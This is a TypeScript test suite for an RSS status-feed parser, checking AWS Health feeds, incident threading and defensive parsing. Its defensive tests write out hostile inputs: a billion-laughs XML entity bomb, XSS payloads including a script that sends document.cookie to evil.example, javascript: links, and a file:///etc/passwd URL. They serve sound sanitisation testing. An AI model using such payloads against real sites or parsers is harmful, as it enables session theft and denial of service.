import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { samplePageView } from "../../../test/helpers/page-view.ts";
import { renderRss } from "../../statuspage/render/feeds.ts";
import { FeedParseError } from "../types.ts";
import { RssConfig, rssFormat } from "./rss.ts";

const awsUrl = "https://status.aws.amazon.com/rss/rds-us-west-2.rss";
const aws = readFileSync(new URL("./fixtures/aws-rds-us-west-2.rss", import.meta.url), "utf8");
const now = new Date("2026-11-27T18:00:00Z");

function parse(body: string, config: Record<string, unknown> = {}, at: Date = now) {
  return rssFormat.parse(body, RssConfig.parse({ url: awsUrl, ...config }), { now: at, url: awsUrl });
}

/** An RSS document with these items (each a string of inner XML). */
function rss(items: string[], title = "Example Service Status"): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>${title}</title><link>https://status.example.com/</link>\n${items
    .map((i) => `<item>${i}</item>`)
    .join("\n")}\n</channel></rss>`;
}

function parseError(fn: () => unknown): FeedParseError {
  try {
    fn();
  } catch (error) {
    if (error instanceof FeedParseError) return error;
    throw error;
  }
  throw new Error("expected a FeedParseError");
}

describe("rss: AWS Health's per-service feed", () => {
  it("is one component, named by the config, else by the channel's title", () => {
    expect(parse(aws, { component: "Amazon RDS (Oregon)" }).components).toEqual([
      { id: "Amazon RDS (Oregon)", name: "Amazon RDS (Oregon)", group: null, status: "partial_outage" },
    ]);
    expect(parse(aws).components[0]?.name).toBe("Amazon Relational Database Service (Oregon) Service Status");
  });

  it("reads the open disruption as a major incident, investigating", () => {
    const { incidents } = parse(aws, { component: "Amazon RDS (Oregon)" });
    expect(incidents[0]).toEqual({
      id: "https://status.aws.amazon.com/#rds-us-west-2_1795801200",
      title: "Service disruption: Database instances unavailable",
      status: "investigating",
      impact: "major",
      url: "https://status.aws.amazon.com/",
      startedAt: new Date("2026-11-27T17:40:00Z"),
      updatedAt: new Date("2026-11-27T17:40:00Z"),
      resolvedAt: null,
      text: expect.stringMatching(/^We are investigating connectivity issues .* Multi-AZ instances have failed over\.$/),
      components: ["Amazon RDS (Oregon)"],
    });
  });

  it("reads the three items of the API error thread as one incident, resolved by the last", () => {
    const { incidents } = parse(aws);
    expect(incidents).toHaveLength(2);
    const thread = incidents[1];
    expect(thread).toMatchObject({
      id: "https://status.aws.amazon.com/#rds-us-west-2_1795785120",
      title: "Service is operating normally: [RESOLVED] Increased API Error Rates",
      status: "resolved",
      startedAt: new Date("2026-11-27T13:12:00Z"),
      updatedAt: new Date("2026-11-27T14:31:00Z"),
      resolvedAt: new Date("2026-11-27T14:31:00Z"),
    });
    expect(thread?.text).toMatch(/The issue has been resolved and the service is operating normally\.$/);
  });

  it("drops items older than max_age (24h by default), keeps them with a longer one", () => {
    expect(parse(aws).incidents.map((i) => i.title)).not.toContain("Service is operating normally: [RESOLVED] Elevated Provisioning Times");
    const week = parse(aws, { max_age: "7d" });
    expect(week.incidents).toHaveLength(3);
    expect(week.incidents[2]).toMatchObject({ title: "Service is operating normally: [RESOLVED] Elevated Provisioning Times", status: "resolved" });
  });

  it("is operational once every incident is resolved, and degraded for a minor one", () => {
    const withoutOpen = aws.replace(/<item>\s*<title><!\[CDATA\[Service disruption[\s\S]*?<\/item>/, "");
    expect(parse(withoutOpen).incidents.map((i) => i.status)).toEqual(["resolved"]);
    expect(parse(withoutOpen).components[0]?.status).toBe("operational");
    const minor = rss([`<title>Informational message: Increased latency</title><guid>g1</guid><pubDate>Fri, 27 Nov 2026 17:00:00 GMT</pubDate>`]);
    expect(parse(minor).components[0]?.status).toBe("degraded_performance");
  });
});

describe("rss: threads and resolution", () => {
  it("reopens a thread when an item after the resolution does not say resolved", () => {
    const body = rss([
      `<title>Informational message: Increased error rates</title><guid>a_3</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate><description>Errors are back.</description>`,
      `<title>Service is operating normally: [RESOLVED] Increased error rates</title><guid>a_2</guid><pubDate>Fri, 27 Nov 2026 15:00:00 GMT</pubDate>`,
      `<title>Informational message: Increased error rates</title><guid>a_1</guid><pubDate>Fri, 27 Nov 2026 14:00:00 GMT</pubDate>`,
    ]);
    const { incidents } = parse(body);
    expect(incidents).toHaveLength(1);
    expect(incidents[0]).toMatchObject({ id: "a_1", status: "investigating", resolvedAt: null, text: "Errors are back." });
  });

  it("joins items whose guids differ only by an update counter", () => {
    const body = rss([
      `<title>All clear</title><guid>https://status.example.com/incidents/42#2</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate><description>This incident has been resolved.</description>`,
      `<title>API outage</title><guid>https://status.example.com/incidents/42#1</guid><pubDate>Fri, 27 Nov 2026 15:00:00 GMT</pubDate>`,
      `<title>Other thing</title><guid>https://status.example.com/incidents/43#1</guid><pubDate>Fri, 27 Nov 2026 15:30:00 GMT</pubDate>`,
    ]);
    const { incidents } = parse(body);
    expect(incidents.map((i) => [i.id, i.status])).toEqual([
      ["https://status.example.com/incidents/42#1", "resolved"],
      ["https://status.example.com/incidents/43#1", "investigating"],
    ]);
  });

  it("uses the configured resolved_pattern", () => {
    const body = rss([`<title>Checkout errors</title><guid>c1</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate><description>All clear now.</description>`]);
    expect(parse(body).incidents[0]?.status).toBe("investigating");
    expect(parse(body, { resolved_pattern: "[Aa]ll clear" }).incidents[0]?.status).toBe("resolved");
  });

  it("guesses a major impact from outage words only", () => {
    const item = (title: string, text: string) => rss([`<title>${title}</title><guid>x</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate><description>${text}</description>`]);
    expect(parse(item("Elevated latency", "Some requests are slow.")).incidents[0]?.impact).toBe("minor");
    expect(parse(item("Elevated latency", "The console is unavailable in eu-west-1.")).incidents[0]?.impact).toBe("major");
    expect(parse(item("Service disruption: Lambda", "")).incidents[0]?.impact).toBe("major");
  });
});

describe("rss: defensive reading", () => {
  it("throws FeedParseError for malformed XML, with the line", () => {
    const broken = aws.replace("</item>", "");
    const error = parseError(() => parse(broken));
    expect(error.message).toMatch(/^expected an RSS feed, but the body is not well-formed XML: .*\(line \d+, column \d+\)$/);
  });

  it("throws FeedParseError for an HTML page, an Atom feed, or RSS without a channel", () => {
    const html = `<!DOCTYPE html><html><head><title>AWS Health Dashboard</title></head><body><div id="root"></div></body></html>`;
    expect(parseError(() => parse(html)).message).toBe("expected an RSS feed, got an HTML page");
    const atom = `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>`;
    expect(parseError(() => parse(atom)).message).toBe("expected an RSS feed (a <rss> or <rdf:RDF> root element), got <feed>");
    expect(parseError(() => parse(`<rss version="2.0"><item><title>x</title></item></rss>`)).message).toBe("expected an RSS feed, but <rss> has no <channel>");
  });

  it("does not expand an entity bomb (billion laughs)", () => {
    const lols = Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("\n");
    const bomb = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol0 "lol">
${lols}
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>Bomb &lol9;</title><guid>b1</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate><description>&lol9;&lol9;</description></item>
</channel></rss>`;
    const started = performance.now();
    const snapshot = parse(bomb);
    expect(performance.now() - started).toBeLessThan(1_000);
    // The declared entities are left as written, not expanded.
    expect(snapshot.incidents[0]?.title).toBe("Bomb &lol9;");
    expect(snapshot.incidents[0]?.text).toBe("&lol9;&lol9;");
    expect(snapshot.components[0]?.name).toBe("&lol9;");
    expect(JSON.stringify(snapshot)).not.toContain("lollol");
  });

  it("refuses a DOCTYPE declaring too many entities", () => {
    const many = Array.from({ length: 150 }, (_, i) => `<!ENTITY e${i} "x">`).join("\n");
    const body = `<?xml version="1.0"?>\n<!DOCTYPE rss [\n${many}\n]>\n<rss version="2.0"><channel><title>t</title></channel></rss>`;
    expect(parseError(() => parse(body)).message).toMatch(/^expected an RSS feed, but the XML could not be read: Entity count \(101\) exceeds maximum allowed \(100\)/);
  });

  it("neutralises script and javascript: links in titles, descriptions and links", () => {
    const body = rss([
      `<title><![CDATA[Errors <script>alert(1)</script><img src=x onerror=alert(2)>]]></title>
       <link>javascript:alert(document.cookie)</link>
       <guid isPermaLink="true">javascript:alert(3)</guid>
       <pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate>
       <description><![CDATA[<p>Investigating.</p><script>fetch("https://evil.example/"+document.cookie)</script><a href="javascript:alert(4)" onclick="alert(5)">details</a><iframe src="https://evil.example"></iframe>]]></description>`,
    ]);
    const incident = parse(body).incidents[0];
    expect(incident?.title).toBe("Errors");
    expect(incident?.text).toBe("Investigating. details");
    expect(incident?.url).toBeNull();
    // The guid stays the incident's id (opaque text, never a link); nothing else keeps any of it.
    expect(incident?.id).toBe("javascript:alert(3)");
    expect(JSON.stringify({ ...incident, id: null })).not.toMatch(/script|javascript|onerror|onclick|alert|iframe/i);
  });

  it("uses a permalink guid when there is no link, and resolves relative links", () => {
    const body = rss([
      `<title>A</title><guid>https://status.example.com/incidents/a</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate>`,
      `<title>B</title><link>/incidents/b</link><guid isPermaLink="false">b</guid><pubDate>Fri, 27 Nov 2026 16:01:00 GMT</pubDate>`,
      `<title>C</title><guid>c-17</guid><pubDate>Fri, 27 Nov 2026 15:59:00 GMT</pubDate>`,
    ]);
    // A relative permalink guid is an id, not a link.
    expect(parse(body).incidents.map((i) => i.url)).toEqual(["https://status.aws.amazon.com/incidents/b", "https://status.example.com/incidents/a", null]);
  });

  it("dates an undated item now and skips one whose date is unreadable", () => {
    const body = rss([
      `<title>Undated problem</title><guid>u</guid>`,
      `<title>Garbled date</title><guid>g</guid><pubDate>sometime on Friday</pubDate>`,
      `<title>Fine</title><guid>f</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate>`,
    ]);
    const { incidents } = parse(body);
    expect(incidents.map((i) => i.title)).toEqual(["Undated problem", "Fine"]);
    expect(incidents[0]?.startedAt).toEqual(now);
  });

  it("skips items with neither title nor description, and titles an untitled one by its text", () => {
    const body = rss([
      `<guid>empty</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate>`,
      `<guid>t</guid><pubDate>Fri, 27 Nov 2026 16:00:00 GMT</pubDate><description>Only a description.</description>`,
    ]);
    expect(parse(body).incidents.map((i) => i.title)).toEqual(["Only a description."]);
  });

  it("keeps the newest 200 of a huge feed", () => {
    const items = Array.from({ length: 5_000 }, (_, i) => {
      const at = new Date(now.getTime() - i * 10_000).toUTCString();
      return `<title>Event number ${i}</title><guid>e${i}</guid><pubDate>${at}</pubDate>`;
    });
    const started = performance.now();
    const { incidents } = parse(rss(items));
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(incidents).toHaveLength(200);
    expect(incidents[0]?.title).toBe("Event number 0");
    expect(incidents[199]?.title).toBe("Event number 199");
  });
});

describe("rss: other shapes", () => {
  it("reads RSS 1.0 (RDF) with dc:date", () => {
    const body = `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://status.example.com/"><title>Example status</title><link>https://status.example.com/</link><description>d</description></channel>
  <item rdf:about="https://status.example.com/incidents/9"><title>Queue outage</title><link>https://status.example.com/incidents/9</link><dc:date>2026-11-27T16:00:00Z</dc:date></item>
</rdf:RDF>`;
    const snapshot = parse(body);
    expect(snapshot.components[0]).toMatchObject({ name: "Example status", status: "partial_outage" });
    expect(snapshot.incidents[0]).toMatchObject({ id: "https://status.example.com/incidents/9", startedAt: new Date("2026-11-27T16:00:00Z") });
  });

  it("reads Vigil's own history.rss: the open incident, and maintenances apart", () => {
    const view = samplePageView();
    const at = new Date("2026-11-27T13:30:00Z");
    const snapshot = rssFormat.parse(renderRss(view), RssConfig.parse({ url: "https://status.example.com/history.rss" }), { now: at, url: "https://status.example.com/history.rss" });
    expect(snapshot.components).toEqual([{ id: "Acme Status - Incident History", name: "Acme Status - Incident History", group: null, status: "partial_outage" }]);
    expect(snapshot.incidents).toHaveLength(1);
    // Vigil's RSS dates an item by its latest change and counts updates in its guid (the `vigil` format reads the
    // start itself).
    expect(snapshot.incidents[0]).toMatchObject({
      id: "inc_00000000000000a1#2",
      title: "Orders database outage",
      status: "investigating",
      impact: "major",
      url: "https://status.example.com/incidents/inc_00000000000000a1",
      startedAt: new Date("2026-11-27T13:25:00Z"),
    });
    expect(snapshot.incidents[0]?.text).toContain("The primary ran out of disk; failing over.");
    expect(snapshot.maintenances.map((m) => [m.title, m.status])).toEqual([
      ["Cache upgrade", "in_progress"],
      ["Network work", "scheduled"],
    ]);
    const all = rssFormat.parse(renderRss(view), RssConfig.parse({ url: "https://status.example.com/history.rss", max_age: "100d" }), { now: at, url: "https://status.example.com/history.rss" });
    expect(all.incidents.find((i) => i.title === "Slow orders")).toMatchObject({ status: "resolved", resolvedAt: new Date("2026-09-30T08:00:00Z") }); // its postmortem's publication
  });
});

describe("rss: config", () => {
  it("defaults resolved_pattern and max_age", () => {
    const config = RssConfig.parse({ url: awsUrl });
    expect(config.resolved_pattern.source).toBe("RESOLVED|resolved|operating normally");
    expect(config.max_age).toBe(86_400_000);
    expect(rssFormat.url(config)).toBe(awsUrl);
  });

  it("rejects a bad regular expression, a non-http URL and unknown keys", () => {
    expect(RssConfig.safeParse({ url: awsUrl, resolved_pattern: "([unclosed" }).success).toBe(false);
    expect(RssConfig.safeParse({ url: "file:///etc/passwd" }).success).toBe(false);
    expect(RssConfig.safeParse({ url: awsUrl, componnet: "x" }).success).toBe(false);
    expect(RssConfig.safeParse({ url: awsUrl, max_age: "soon" }).success).toBe(false);
  });
});
